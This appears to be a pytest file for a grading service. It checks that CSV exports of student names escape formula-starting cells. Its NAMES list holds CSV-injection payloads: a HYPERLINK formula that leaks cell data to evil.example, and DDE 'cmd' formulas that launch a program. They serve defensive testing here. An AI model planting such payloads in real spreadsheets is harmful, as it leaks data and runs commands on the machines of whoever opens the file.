"""Every CSV the service writes opens in a spreadsheet as data (issue 31, class 11): a cell that
starts with = + - @, a tab or a carriage return is written with a leading ' in the submissions
zip's manifest.csv (names come from an LMS's `name` claim, which its users edit), both gradebook
layouts and the CLI's invite links."""

from __future__ import annotations

import csv
import io
import zipfile

import httpx
import pytest
from sqlalchemy.orm import Session

from app.core.csv_out import FORMULA_STARTS, safe_cell
from app.courses.models import Role
from tests.app.conftest import World, make_member, make_world
from tests.app.factories import make_submission

pytestmark = pytest.mark.anyio

# What a student could call themselves: each starts a formula in Excel, LibreOffice or Sheets.
NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"grades")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _named_students(session: Session, world: World) -> list[str]:
    emails = []
    for name in NAMES:
        member = make_member(session, world.course, Role.student)
        member.user.name = name
        make_submission(session, user=member.user, lab=world.lab, score=4)
        emails.append(member.email)
    session.commit()
    return emails


def _column(text: str, key: str, value: str, column: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return {row[key]: row[column] for row in rows if row[key] != value}


async def test_the_zips_manifest_escapes_every_name(
    client: httpx.AsyncClient, session: Session
) -> None:
    world = make_world(session)
    emails = _named_students(session, world)
    r = await client.get(
        f"/api/v1/courses/{world.course.slug}/labs/{world.lab.slug}/submissions.zip",
        headers=world.ta.auth,
    )
    assert r.status_code == 200, r.text
    manifest = zipfile.ZipFile(io.BytesIO(r.content)).read(f"{world.lab.slug}/manifest.csv")
    names = _column(manifest.decode(), "email", "", "name")
    assert [names[email] for email in emails] == ["'" + name for name in NAMES]
    # The rest of a row is untouched: the ids and paths a checker reads.
    rows = list(csv.DictReader(io.StringIO(manifest.decode(), newline="")))
    assert all(row["path"].startswith(f"{world.lab.slug}/") for row in rows)


async def test_both_gradebook_layouts_escape_tabs_and_carriage_returns_too(
    client: httpx.AsyncClient, session: Session
) -> None:
    world = make_world(session)
    emails = _named_students(session, world)
    base = f"/api/v1/courses/{world.course.slug}/gradebook.csv"
    plain = await client.get(base, headers=world.instructor.auth)
    assert plain.status_code == 200, plain.text
    names = _column(plain.text, "email", "", "name")
    assert [names[email] for email in emails] == ["'" + name for name in NAMES]
    canvas = await client.get(base + "?format=canvas", headers=world.instructor.auth)
    assert canvas.status_code == 200, canvas.text
    students = _column(canvas.text, "SIS Login ID", "", "Student")
    assert [students[email] for email in emails] == ["'" + name for name in NAMES]


def test_one_helper_decides_for_every_cell() -> None:
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1") == f"'{start}1"
    # Only the first character matters; numbers and ordinary text stay as they are.
    for text in ("Ada", "a=b", "1-2", "ada@uni.edu", "", "10", "2.5"):
        assert safe_cell(text) == text
    assert safe_cell(None) == "" and safe_cell(3) == "3"
